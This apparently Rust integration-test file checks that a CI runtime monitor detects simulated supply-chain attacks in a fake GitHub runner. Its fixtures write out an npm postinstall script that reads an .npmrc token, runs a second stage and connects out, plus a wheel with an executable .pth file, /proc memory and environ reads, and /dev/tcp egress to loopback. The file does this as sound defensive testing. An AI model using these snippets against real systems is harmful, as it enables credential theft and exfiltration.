//! End-to-end detections: the real agent with the real probes, judging real package managers run
//! as steps of a job laid out like a GitHub runner's (see `FakeRunner`).

use std::process::Command;

use integration_tests::{
    by_rule, monitor_cli, npm_package, sink, Agent, FakeRunner, Value, MARKER_STEP, STRICT_PROFILE,
};

#[test]
fn npm_postinstall_stealing_npmrc_and_calling_out_is_found_in_its_step() {
    let agent = Agent::start_with_profile(STRICT_PROFILE);
    // Its home outside /tmp, so the second stage dropped there is judged as a job-written
    // program rather than as one run from a temporary directory.
    let runner = FakeRunner::outside_tmp();
    let port = sink();
    std::fs::write(
        runner.home.join(".npmrc"),
        "//registry.example.invalid/:_authToken=npm_CANARYcanaryCANARYcanaryCANARY0000\n",
    )
    .unwrap();
    // Reads the token, drops a second stage into the home directory and runs it, calls out.
    let steal = format!(
        "const fs=require('fs'),net=require('net'),os=require('os'),cp=require('child_process');\
         const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');\
         const d=os.homedir()+'/.cache/stage2';fs.mkdirSync(d,{{recursive:true}});\
         fs.writeFileSync(d+'/run.sh','#!/bin/sh\\nexit 0\\n',{{mode:0o755}});cp.execFileSync(d+'/run.sh');\
         const s=net.connect({port},'127.0.0.1',()=>{{s.end(String(t.length))}});s.on('error',()=>{{}});"
    );
    let tgz = runner.evil_npm_package(&steal);
    runner.run_job(&[(
        "__run",
        &format!(
            "npm install --offline --no-audit --no-fund {}\n",
            tgz.display()
        ),
    )]);

    let findings = agent.wait_for_findings("hook, credential read and egress", |all| {
        let mine = runner.findings_of(all);
        [
            "lifecycle-hook",
            "credential-read",
            "unexpected-egress",
            "exec-of-job-written-file",
        ]
        .iter()
        .all(|r| !by_rule(&mine, r).is_empty())
    });
    let mine = runner.findings_of(&findings);
    for f in &mine {
        assert_eq!(f["job"]["name"], "build", "{f}");
        assert_eq!(f["step"]["id"], "__run", "{f}");
    }
    let hook = by_rule(&mine, "lifecycle-hook");
    assert_eq!(hook[0]["evidence"]["package"], "evil-pkg", "{}", hook[0]);
    assert_eq!(hook[0]["hook"]["script"], "postinstall");
    let reads = by_rule(&mine, "credential-read");
    assert_eq!(
        reads.len(),
        1,
        "only the hook's read, not npm's own: {reads:?}"
    );
    let read = reads[0];
    assert_eq!(
        read["evidence"]["path"].as_str(),
        Some(runner.home.join(".npmrc").to_str().unwrap())
    );
    assert_eq!(read["severity"], "critical");
    assert_eq!(read["hook"]["package"], "evil-pkg");
    let chain: Vec<String> = read["process_chain"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["argv"].to_string())
        .collect();
    assert!(chain[0].contains("steal.js"), "{chain:?}");
    assert!(
        chain.last().unwrap().contains("step-0.sh"),
        "the chain ends at the step's root: {chain:?}"
    );
    let egress = by_rule(&mine, "unexpected-egress");
    assert_eq!(egress[0]["evidence"]["port"].as_u64(), Some(port as u64));
    assert_eq!(egress[0]["hook"]["package"], "evil-pkg");
    let stage2 = by_rule(&mine, "exec-of-job-written-file");
    assert_eq!(stage2.len(), 1, "{stage2:?}");
    assert!(stage2[0]["evidence"]["program"]
        .as_str()
        .unwrap()
        .ends_with("/.cache/stage2/run.sh"));
    assert_eq!(stage2[0]["severity"], "critical");
    // The canary token never reaches the logs.
    let written = std::fs::read_to_string(&agent.events_path).unwrap()
        + &std::fs::read_to_string(&agent.findings_path).unwrap();
    assert!(
        !written.contains("CANARYcanary"),
        "secret leaked into events or findings"
    );
}

#[test]
fn benign_twins_give_no_finding() {
    let agent = Agent::start_with_profile(STRICT_PROFILE);
    let runner = FakeRunner::new();
    std::fs::write(runner.home.join(".npmrc"), "fund=false\n").unwrap();
    let tgz = npm_package(
        runner.dir.path(),
        "plain-pkg",
        "",
        &[("index.js", "module.exports=1")],
    );
    std::fs::write(
        runner.workspace.join("package.json"),
        r#"{"name":"app","version":"1.0.0"}"#,
    )
    .unwrap();
    runner.run_job(&[
        // npm installing a package without scripts, reading its own .npmrc.
        ("__run", &format!("npm install --offline --no-audit --no-fund {}\n", tgz.display())),
        // ps and pgrep read /proc/*/cmdline; a process reads its own environ.
        ("__run_2", "ps aux >/dev/null; pgrep -f Runner.Worker >/dev/null || true; cat /proc/self/environ >/dev/null\n"),
    ]);
    // A marker step whose finding proves the agent had judged everything before it.
    let port = sink();
    runner.run_job(&[(
        "marker",
        &format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec 3>&-\n"),
    )]);
    let findings = agent.wait_for_findings("the marker step's egress", |all| {
        runner
            .findings_of(all)
            .iter()
            .any(|f| f["step"]["id"] == "marker")
    });
    let others: Vec<_> = runner
        .findings_of(&findings)
        .into_iter()
        .filter(|f| f["step"]["id"] != "marker")
        .collect();
    assert!(others.is_empty(), "false positives: {others:#?}");
}

#[test]
fn pth_file_installed_by_pip_is_found_when_python_starts() {
    let agent = Agent::start_with_profile(STRICT_PROFILE);
    let runner = FakeRunner::new();
    // A wheel that installs an executable .pth, as litellm 1.82.8 did (made here, no index).
    let wheel = runner.dir.path().join("evilpth-0.1-py3-none-any.whl");
    let made = Command::new("python3")
        .arg("-c")
        .arg(format!(
            "import zipfile\n\
             z=zipfile.ZipFile('{w}','w')\n\
             z.writestr('evilpth_init.pth','import os; os.environ.get(\"HOME\")\\n')\n\
             z.writestr('evilpth-0.1.dist-info/METADATA','Metadata-Version: 2.1\\nName: evilpth\\nVersion: 0.1\\n')\n\
             z.writestr('evilpth-0.1.dist-info/WHEEL','Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
             z.writestr('evilpth-0.1.dist-info/RECORD','')\n\
             z.close()\n",
            w = wheel.display()
        ))
        .status()
        .unwrap();
    assert!(made.success());
    runner.run_job(&[(
        "install",
        &format!(
            "python3 -m venv --without-pip venv\n\
             python3 -m pip --python venv/bin/python install --no-index --no-deps --disable-pip-version-check -q {}\n\
             venv/bin/python -c pass\n",
            wheel.display()
        ),
    )]);
    let findings = agent.wait_for_findings("pth-executed", |all| {
        !by_rule(&runner.findings_of(all), "pth-executed").is_empty()
    });
    let mine = runner.findings_of(&findings);
    let f = by_rule(&mine, "pth-executed")[0];
    assert!(
        f["evidence"]["path"]
            .as_str()
            .unwrap()
            .ends_with("/site-packages/evilpth_init.pth"),
        "{f}"
    );
    assert_eq!(f["evidence"]["executable_lines"], true);
    assert_eq!(f["step"]["id"], "install");
    assert!(
        f["process_chain"][0]["argv"].to_string().contains("pass"),
        "the interpreter that ran it: {f}"
    );
}

#[test]
fn reading_a_sibling_process_memory_is_found() {
    let agent = Agent::start_with_profile(STRICT_PROFILE);
    let runner = FakeRunner::new();
    runner.run_job(&[(
        "__actions_changed-files",
        "sleep 30 & victim=$!\nhead -c1 /proc/$victim/mem >/dev/null 2>&1 || true\ncat /proc/$victim/environ >/dev/null\nkill $victim\n",
    )]);
    let findings = agent.wait_for_findings("memory and environ reads", |all| {
        let mine = runner.findings_of(all);
        !by_rule(&mine, "process-memory-read").is_empty()
            && !by_rule(&mine, "process-environ-read").is_empty()
    });
    let mine = runner.findings_of(&findings);
    let mem = by_rule(&mine, "process-memory-read")[0];
    assert_eq!(mem["severity"], "critical");
    assert!(mem["evidence"]["path"].as_str().unwrap().ends_with("/mem"));
    assert_eq!(mem["step"]["id"], "__actions_changed-files");
}

/// `monitor replay` on the live agent's event log gives the findings the live agent gave;
/// `monitor profile learn` from that (clean) run gives a profile under which replaying the same
/// run finds nothing; `monitor profile diff` names what the strict profile lacked.
#[test]
fn replay_learn_and_diff_work_on_a_recorded_run() {
    let mut agent = Agent::start_with_profile(STRICT_PROFILE);
    let strict = agent.dir.path().join("strict.yml");
    std::fs::write(&strict, STRICT_PROFILE).unwrap();
    let runner = FakeRunner::new();
    let port = sink();
    runner.run_job(&[
        ("fetch", &format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec 3>&-\n")),
        ("marker", &format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec 3>&-; cat /proc/$PPID/environ >/dev/null\n")),
    ]);
    let live = agent.wait_for_findings("the marker step's environ read", |all| {
        by_rule(&runner.findings_of(all), "process-environ-read")
            .iter()
            .any(|f| f["step"]["id"] == "marker")
    });
    let events = agent.events_path.clone();
    // Stop the agent so the log is complete (it drains the ring on SIGTERM).
    let dir = agent.dir.path().to_path_buf();
    agent.stop();

    let key = |f: &Value| format!("{}|{}|{}", f["rule"], f["step"]["id"], f["summary"]);
    let mut live: Vec<String> = runner.findings_of(&live).iter().map(key).collect();
    let replayed = monitor_cli(&[
        "replay",
        "--profile",
        strict.to_str().unwrap(),
        events.to_str().unwrap(),
    ]);
    let replayed_values: Vec<Value> = replayed
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let mut replayed: Vec<String> = runner
        .findings_of(&replayed_values)
        .iter()
        .map(key)
        .collect();
    live.sort();
    replayed.sort();
    assert!(!live.is_empty());
    assert_eq!(
        live, replayed,
        "replay must judge exactly as the live agent did"
    );

    let learnt = dir.join("learnt.yml");
    monitor_cli(&[
        "profile",
        "learn",
        "--base",
        strict.to_str().unwrap(),
        "--job",
        &runner.run_id,
        "-o",
        learnt.to_str().unwrap(),
        events.to_str().unwrap(),
    ]);
    let text = std::fs::read_to_string(&learnt).unwrap();
    // The sink listens on a port picked for this run: loopback is learnt, not the port.
    let body: String = text
        .lines()
        .filter(|l| !l.starts_with('#'))
        .collect::<Vec<_>>()
        .join("\n");
    assert!(
        body.contains("127.0.0.0/8") && !body.contains(&port.to_string()),
        "the sink is learnt as loopback:\n{text}"
    );
    assert!(body.contains("/proc/*/environ"), "{text}");
    assert!(
        text.contains("# Added, and why:") && text.contains("<- unexpected-egress in job"),
        "each entry explained:\n{text}"
    );
    let mode =
        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&learnt).unwrap().permissions());
    assert_eq!(mode & 0o077, 0, "profile written owner-only");
    let again = monitor_cli(&[
        "replay",
        "--profile",
        learnt.to_str().unwrap(),
        events.to_str().unwrap(),
    ]);
    let again: Vec<Value> = again
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    // Everything this clean run did is allowed now, the environ read included (learn writes a
    // `credentials.allow` entry for that exact path and tool, for a person to review).
    assert!(
        runner.findings_of(&again).is_empty(),
        "a learnt profile still finds: {:#?}",
        runner.findings_of(&again)
    );

    let diff = monitor_cli(&[
        "profile",
        "diff",
        "--profile",
        strict.to_str().unwrap(),
        events.to_str().unwrap(),
    ]);
    assert!(
        diff.contains("unexpected-egress") && diff.contains(&format!("127.0.0.1:{port}")),
        "{diff}"
    );
}

/// `npm pack` of a TypeScript library: an ordinary map (file names and line mappings) whose
/// sources stay out of the package is not a leak; a map that embeds its sources, or whose
/// sources ship beside it, is.
#[test]
fn packed_source_maps_are_leaks_only_when_they_give_the_sources_away() {
    let agent = Agent::start();
    let runner = FakeRunner::outside_tmp();
    let package = |dir: &str, files: &str, map: &str| {
        let root = runner.workspace.join(dir);
        std::fs::create_dir_all(root.join("dist")).unwrap();
        std::fs::create_dir_all(root.join("src")).unwrap();
        std::fs::write(
            root.join("package.json"),
            format!(r#"{{"name":"{dir}","version":"1.0.0","files":{files}}}"#),
        )
        .unwrap();
        std::fs::write(
            root.join("src/index.ts"),
            "export const answer: number = 42;\n",
        )
        .unwrap();
        std::fs::write(root.join("dist/index.js"), "exports.answer = 42;\n").unwrap();
        std::fs::write(root.join("dist/index.js.map"), map).unwrap();
    };
    let tsc = r#"{"version":3,"file":"index.js","sourceRoot":"","sources":["../src/index.ts"],"names":[],"mappings":"AAAa,QAAA,MAAM"}"#;
    let inlined = r#"{"version":3,"file":"index.js","sources":["../src/index.ts"],"sourcesContent":["export const answer: number = 42;\n"],"mappings":"AAAa"}"#;
    package("lib-ordinary", r#"["dist"]"#, tsc);
    package("lib-inlined", r#"["dist"]"#, inlined);
    package("lib-with-src", r#"["dist","src"]"#, tsc);
    let pack = |dir: &str| {
        format!(
            "cd {}/{dir}\nnpm pack --offline --silent >/dev/null\ntar tzf {dir}-1.0.0.tgz > listing\ngrep -q package/dist/index.js.map listing\n",
            runner.workspace.display()
        )
    };
    runner.run_job(&[
        ("ordinary", &pack("lib-ordinary")),
        ("inlined", &pack("lib-inlined")),
        ("with-src", &pack("lib-with-src")),
        MARKER_STEP,
    ]);
    // Each map really shipped (the steps grep the tarballs' listings).
    let mine = agent.findings_through_marker(&runner);
    let packed = |step: &str| -> Vec<String> {
        by_rule(&mine, "packaged-sensitive-file")
            .into_iter()
            .filter(|f| f["step"]["id"] == step)
            .map(|f| f["evidence"]["kind"].as_str().unwrap_or("").to_string())
            .collect()
    };
    assert_eq!(packed("ordinary"), Vec::<String>::new(), "{mine:#?}");
    assert_eq!(packed("inlined"), vec!["source map with embedded sources"]);
    assert_eq!(
        packed("with-src"),
        vec!["source map shipped with its sources"]
    );
}

/// The CI's cache service (the origin of `ACTIONS_CACHE_URL`, a loopback server here) called
/// from a `run:` step, and from an action that is not a cache action (a poisoned action's post
/// step): both reported; the cache action's own call, and the default profile's allowance of
/// loopback, stay quiet. The connections really happen (each step records its success).
#[test]
fn a_step_that_is_not_the_cache_action_calling_the_cache_service_is_reported() {
    let agent = Agent::start();
    let port = sink();
    let mut runner = FakeRunner::new();
    runner.action_env = vec![
        (
            "ACTIONS_CACHE_URL".into(),
            format!("http://127.0.0.1:{port}/CaNaRyToKeN/"),
        ),
        ("GITHUB_SERVER_URL".into(), "https://github.com".into()),
    ];
    let out = runner.dir.path().join("called");
    let call = |tag: &str| {
        format!(
            "python3 -c \"import socket;s=socket.create_connection(('127.0.0.1',{port}));s.sendall(b'cache-entry');s.close()\" && echo {tag} >> {}\n",
            out.display()
        )
    };
    runner.run_job(&[
        ("__actions_cache uses actions/cache@v4", &call("cache")),
        ("upload", &call("run")),
        (
            "__actions_checkout uses actions/checkout@v4",
            &call("checkout"),
        ),
        MARKER_STEP,
    ]);
    let called = std::fs::read_to_string(&out).unwrap_or_default();
    for tag in ["cache", "run", "checkout"] {
        assert!(
            called.lines().any(|l| l == tag),
            "{tag} did not call: {called:?}"
        );
    }
    let mine = agent.findings_through_marker(&runner);
    let calls = by_rule(&mine, "runtime-service-call");
    let in_step = |step: &str| calls.iter().find(|f| f["step"]["id"] == step).copied();
    let run = in_step("upload").unwrap_or_else(|| panic!("{mine:#?}"));
    assert_eq!(run["evidence"]["service_variable"], "ACTIONS_CACHE_URL");
    assert_eq!(run["evidence"]["endpoint"], format!("127.0.0.1:{port}"));
    let checkout = in_step("__actions_checkout").unwrap_or_else(|| panic!("{mine:#?}"));
    assert_eq!(checkout["step"]["action"], "actions/checkout@v4");
    assert!(in_step("__actions_cache").is_none(), "{calls:#?}");
    assert!(
        !serde_json::to_string(&mine)
            .unwrap()
            .contains("CaNaRyToKeN"),
        "the token in the URL is never written"
    );
}
